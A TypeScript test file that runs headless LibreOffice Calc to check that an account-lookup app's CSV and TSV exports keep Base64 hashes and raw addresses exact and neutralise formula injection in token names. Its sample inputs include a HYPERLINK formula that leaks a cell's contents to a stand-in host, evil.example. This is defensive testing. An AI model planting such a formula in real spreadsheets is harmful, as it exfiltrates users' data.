/**
 * What a real spreadsheet makes of our CSV and of "Copy for spreadsheet" (TSV): LibreOffice Calc,
 * headless, imports each with formulas evaluated — the setting under which a CSV injection would fire,
 * and how Excel and Google Sheets read every cell — and writes back the values it shows. A hash that
 * starts with `+` or `-` and a masterchain raw address must come back exactly (a user copies them
 * out of the sheet into an explorer), and indexer text that is a formula must be shown, not computed.
 *
 * The TSV is imported as a file with the Text Import filter, which is also what Calc runs on pasted
 * text. Skipped, with the reason, where LibreOffice is not installed (`apt-get install
 * libreoffice-calc-nogui`, or set SOFFICE_PATH).
 */
import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { accountLookupSchema } from '../api/account-states';
import { rowsOf } from '../../test-support/lookup-rows';
import { exportColumns, exportRecords, type ExportRecord } from './export-record';
import { toCsv, toTsv } from './export-formats';
import { checkedLookup } from '../../test-support/checked-lookup';

const SOFFICE = process.env.SOFFICE_PATH ?? '/usr/bin/soffice';
const available = existsSync(SOFFICE);

/** Hashes as the indexer may send them (standard or URL-safe Base64; the schema admits no other first character). */
const HASHES = [
  '+Ycxjy3mT0b5q9sGf0e2uQh8Yx1QKkq1mYb0Q3zq2rE=',
  '-Ycxjy3mT0b5q9sGf0e2uQh8Yx1QKkq1mYb0Q3zq2rE=',
  '+/+/jy3mT0b5q9sGf0e2uQh8Yx1QKkq1mYb0Q3zq2rE=',
];
const MASTERCHAIN = '-1:E56754F83426F69B09267BD876AC97C44821345B7E266BD956A7BFBFB98DF35C';
/** Token names an indexer could send, aimed at a spreadsheet; none may be computed. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '-2+3', '=1+2', '@SUM(1,2)'];

/** Three accounts whose hashes start with a trigger, one on the masterchain, each named by a formula. */
function records(): ExportRecord[] {
  const raws = [MASTERCHAIN, `0:${'AB'.repeat(32)}`, `0:${'CD'.repeat(32)}`, `0:${'EF'.repeat(32)}`];
  const result = accountLookupSchema.parse({
    accounts: raws.map((raw, i) => ({
      address: raw,
      account_state_hash: HASHES[i % 3],
      balance: '1000000000',
      extra_currencies: {},
      status: 'active',
      last_transaction_hash: HASHES[i % 3],
      last_transaction_lt: '47000000000001',
      code_hash: HASHES[(i + 1) % 3],
      data_hash: HASHES[(i + 2) % 3],
    })),
    address_book: {},
    metadata: Object.fromEntries(
      raws.map((raw, i) => [
        raw,
        { is_indexed: true, token_info: [{ type: 'jetton_masters', name: FORMULAS[i], symbol: 'X' }] },
      ]),
    ),
    not_found: [],
  });
  return exportRecords(
    rowsOf(
      raws.map((raw) => ({ raw, input: raw })),
      checkedLookup(result),
    ),
    'mainnet',
  );
}

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'spreadsheet-exact-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

/**
 * The cell values Calc shows after importing `text` (separator `delimiter`, formulas evaluated), as rows.
 * Filter tokens: separator, quote, UTF-8, first line, no column formats, language, quoted-as-text off,
 * detect numbers on, …, token 13 "evaluate formulas" on.
 */
async function asCalcShowsIt(name: string, text: string, delimiter: ',' | '\t'): Promise<string[][]> {
  const input = join(dir, name);
  await writeFile(input, text);
  const separator = delimiter === ',' ? 44 : 9;
  await promisify(execFile)(
    SOFFICE,
    [
      `-env:UserInstallation=${pathToFileURL(join(dir, 'profile')).href}`,
      '--headless',
      `--infilter=Text - txt - csv (StarCalc):${separator},34,76,1,,0,false,true,false,false,false,-1,true`,
      '--convert-to',
      'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false',
      '--outdir',
      join(dir, 'out'),
      input,
    ],
    { timeout: 120_000 },
  );
  const shown = await readFile(join(dir, 'out', name.replace(/\.\w+$/, '.csv')), 'utf8');
  const parsed = Papa.parse<string[]>(shown, { skipEmptyLines: true });
  expect(parsed.data[0]).toEqual([...exportColumns()]);
  return parsed.data.slice(1);
}

describe.skipIf(!available)(`a real spreadsheet (LibreOffice Calc at ${SOFFICE})`, () => {
  const column = (name: keyof ExportRecord) => exportColumns().indexOf(name);

  for (const [kind, write, delimiter] of [
    ['CSV', toCsv, ','],
    ['"Copy for spreadsheet" (TSV)', toTsv, '\t'],
  ] as const) {
    it(`shows every hash and raw address of the ${kind} exactly, and computes no indexer formula`, async () => {
      const data = records();
      const rows = await asCalcShowsIt(
        kind.startsWith('CSV') ? 'export.csv' : 'clipboard.tsv',
        write(data),
        delimiter,
      );
      expect(rows).toHaveLength(data.length);
      rows.forEach((cells, i) => {
        for (const name of ['raw', 'last_transaction_hash', 'code_hash', 'data_hash'] as const) {
          expect(cells[column(name)], `${name} of row ${i + 1}`).toBe(data[i]![name]);
        }
      });
      const names = rows.map((cells) => cells[column('token_name')]);
      // Free text keeps its visible quote; text of letters, digits and + - : is shown as it is.
      expect(names).toEqual([`'${FORMULAS[0]}`, '-2+3', '=1+2', `'${FORMULAS[3]}`]);
    });
  }
});

if (!available) {
  it.skip(`a real spreadsheet: LibreOffice is not installed (${SOFFICE}); apt-get install libreoffice-calc-nogui or set SOFFICE_PATH`, () =>
    undefined);
}
